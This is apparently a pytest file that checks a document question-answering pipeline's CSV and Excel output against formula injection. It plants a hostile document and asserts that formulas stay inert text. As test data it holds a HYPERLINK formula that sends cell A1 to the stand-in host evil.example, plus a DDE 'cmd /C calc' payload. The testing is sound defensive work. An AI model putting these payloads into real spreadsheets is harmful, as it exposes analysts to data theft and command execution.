"""A document written to attack the analyst who opens the report: its formulas stay text in answers.csv and .xlsx,
whatever the real model copies from it."""

from __future__ import annotations

import csv
import json

import openpyxl
import pytest

from flows.answer import answer_flow
from flows.ingest import ingest_flow
from tasks.cells import FORMULA_START, csv_cell, csv_text

pytestmark = pytest.mark.slow

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the warranty terms")'


def test_a_hostile_documents_formulas_reach_no_cell_as_a_formula(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "warranty.txt").write_text(
        f"{HYPERLINK}\n+cmd|' /C calc'!A0\n@SUM(1+1)\n-2+3\nThe warranty code is {HYPERLINK}\n", encoding="utf-8"
    )
    assert ingest_flow(source_path=str(docs), store_dir=str(tmp_path / "store"))["failed"] == []
    questions = tmp_path / "q.csv"
    questions.write_text(
        "id,question,notes\nw1,What is the warranty code? Quote it exactly.,@SUM(1+1)\n"
        "w2,Which formula does the warranty file start with?,=1+1\n",
        encoding="utf-8",
    )
    answer_flow(questions_path=str(questions), store_dir=str(tmp_path / "store"), out_dir=str(tmp_path / "r"))

    with (tmp_path / "r" / "answers.csv").open(encoding="utf-8-sig", newline="") as fh:
        header, *body = list(csv.reader(fh))
    cells = [c for line in body for c in line]
    assert [c for c in cells if c.startswith(FORMULA_START) and csv_cell(c) != c] == []
    table = [dict(zip(header, line)) for line in body]
    assert [r["notes"] for r in table] == ["'@SUM(1+1)", "'=1+1"]
    rows = [json.loads(line) for line in (tmp_path / "r" / "rows.jsonl").read_text(encoding="utf-8").splitlines()]
    # The model's own words, whatever it copied, come back exactly once the guard's apostrophe is taken off.
    assert [csv_text(r["answer"]) for r in table] == [r["answer"] for r in rows]
    sheet = openpyxl.load_workbook(tmp_path / "r" / "answers.xlsx")["answers"]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
